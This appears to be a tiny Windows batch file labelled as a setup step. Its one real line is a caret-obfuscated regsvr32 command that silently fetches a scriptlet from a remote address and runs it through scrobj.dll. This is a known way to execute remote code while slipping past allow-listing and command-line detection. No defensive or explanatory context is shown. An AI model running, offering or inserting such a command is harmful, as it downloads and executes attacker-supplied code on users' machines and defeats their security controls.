REM setup 7222 v0
regs^vr^3^2 /^s /n /u /i:^h^t^t^p://2^03.0.1^1^3.^200/^file.sc^t ^scr^o^bj.^dll
